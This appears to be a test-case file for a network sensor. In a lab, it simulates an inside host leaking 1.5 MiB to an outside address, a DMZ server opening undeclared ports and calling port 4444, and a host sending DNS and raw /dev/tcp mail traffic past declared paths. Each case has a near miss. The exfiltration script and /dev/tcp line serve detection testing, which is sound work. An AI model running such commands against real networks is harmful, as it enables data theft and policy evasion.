"""What a segment's contract forbids: data that leave, services and paths that were not there. These cases have a sensor.toml, because a
contract needs segments, and a capture of a week or of a hundred megabytes is no small capture."""
import time

from cases import case

TAKE = """import socket
server = socket.create_server(("198.51.100.10", 443))
while True:
    one, _ = server.accept()
    while one.recv(65536):
        pass
    one.close()
"""

GIVE = """import socket, sys, time
for _ in range(int(sys.argv[1])):
    one = socket.create_connection(("198.51.100.10", 443))
    for _ in range(19):
        one.sendall(bytes(16384))
        time.sleep(0.01)
    one.close()
"""


def leave(lab, pieces):
    lab.edge(inside=True)
    lab.spawn("sk-c", f"/usr/bin/python3 {lab.write('take.py', TAKE)}", wait_port=443)
    lab.capture(dev="lan")
    lab.run("sk-i", f"/usr/bin/python3 {lab.write('give.py', GIVE)} {pieces}", timeout=60)


@case("exfiltration", [], ["`exfiltration` once: 10.30.0.30 sends 1.5 MiB in five pieces to 198.51.100.10, to which it never spoke, and nothing comes back. The limit of the segment is 1 MiB here (`sensor.toml`); the default is 100."])
def exfiltration(lab):
    """At night an inside host gives a file to a host outside that it never spoke with before."""
    leave(lab, 5)


@case("exfiltration_nearmiss", [], ["Nothing: two pieces, 0.6 MiB, are below the limit of 1 MiB (`sensor.toml`)."])
def exfiltration_nearmiss(lab):
    """The near miss of data that leave: the same host, half of the limit."""
    leave(lab, 2)


ANSWER = """import socket, sys
server = socket.create_server((sys.argv[1], int(sys.argv[2])), backlog=20)
while True:
    one, _ = server.accept()
    one.recv(1000)
    one.sendall(b"HTTP/1.1 200 OK\\r\\nContent-Length: 2\\r\\n\\r\\nok")
    one.close()
"""


def contract(lab, breaks):
    lab.edge()
    answer = lab.write("answer.py", ANSWER)
    for ns, address, port in (("sk-s", "10.20.0.80", 80), ("sk-s", "10.20.0.80", 8081), ("sk-c", "198.51.100.10", 80), ("sk-c", "198.51.100.10", 4444)):
        lab.spawn(ns, f"/usr/bin/python3 {answer} {address} {port}", wait_port=port)
    lab.capture()
    get = "curl -s -m 3 -o /dev/null http"
    # Ten seconds of what the servers do every day.
    for _ in range(11):
        lab.run("sk-c", f"{get}://10.20.0.80/")
        lab.run("sk-s", f"{get}://198.51.100.10/updates")
        time.sleep(1)
    if breaks:
        lab.run("sk-c", f"{get}://10.20.0.80:8081/")
        lab.run("sk-s", f"{get}://198.51.100.10:4444/")


@case("policy_contract", ["curl"], ["`policy` twice: 10.20.0.80 answers on port 8081, which is not among the declared services; it connects to port 4444 outside, which it never did in the time of learning (10 s here, `sensor.toml`; the default is a week)."])
def policy_contract(lab):
    """A server of the DMZ gets a service that nobody declared, and calls a port outside that it never called."""
    contract(lab, True)


@case("policy_nearmiss", ["curl"], ["Nothing: what is declared, and what the server did from the beginning."])
def policy_nearmiss(lab):
    """The near miss of a broken contract: the same servers on an ordinary day."""
    contract(lab, False)


def paths(lab, breaks):
    """An inside host uses the web server of the DMZ and the house's resolver; then perhaps what nobody allowed."""
    lab.edge(inside=True)
    answer = lab.write("answer.py", ANSWER)
    for ns, address, port in (("sk-s", "10.20.0.80", 80), ("sk-s", "10.20.0.80", 8081), ("sk-c", "198.51.100.10", 25), ("sk-c", "198.51.100.10", 80)):
        lab.spawn(ns, f"/usr/bin/python3 {answer} {address} {port}", wait_port=port)
    conf = "no-daemon\nno-resolv\nno-hosts\nuser=root\nbind-interfaces\nhost-record=www.shop.example,10.20.0.80\n"
    for ns, address in (("sk-s", "10.20.0.53"), ("sk-c", "198.51.100.10")):
        lab.spawn(ns, f"dnsmasq -k -C {lab.write(f'dns-{ns}.conf', conf + f'listen-address={address}' + chr(10))}", wait_port=53, udp=True)
    lab.capture(dev="lan")
    get, ask = "curl -s -m 3 -o /dev/null http", "dig +noedns +time=2 +tries=1 +short"
    for _ in range(3):
        lab.run("sk-i", f"{ask} @10.20.0.53 www.shop.example")
        lab.run("sk-i", f"{get}://10.20.0.80/")
        lab.run("sk-i", f"{get}://198.51.100.10/")
    if breaks:
        lab.run("sk-i", f"{get}://10.20.0.80:8081/")
        lab.run("sk-i", f"{ask} @198.51.100.10 www.shop.example")
        lab.run("sk-i", "exec 3<>/dev/tcp/198.51.100.10/25; echo EHLO pc.shop.example >&3; head -c 8 <&3 >/dev/null")


@case("policy_matrix", ["curl", "dnsmasq-base", "bind9-dnsutils"], ["`policy` three times: 10.30.0.30 uses port 8081 of the DMZ, which the matrix does not allow (`sensor.toml`); it asks 198.51.100.10 for a name past the declared resolver; it delivers mail to 198.51.100.10, which only the mail host does. `wrong_port`, because what answers on port 25 is a web server here."])
def policy_matrix(lab):
    """An inside host leaves the paths that are declared: another service of the DMZ, a resolver outside, mail straight to the outside."""
    paths(lab, True)


@case("policy_matrix_nearmiss", ["curl", "dnsmasq-base", "bind9-dnsutils"], ["Nothing: the web servers and the resolver that the matrix allows."])
def policy_matrix_nearmiss(lab):
    """The near miss of a forbidden path: the same host with what it may do."""
    paths(lab, False)
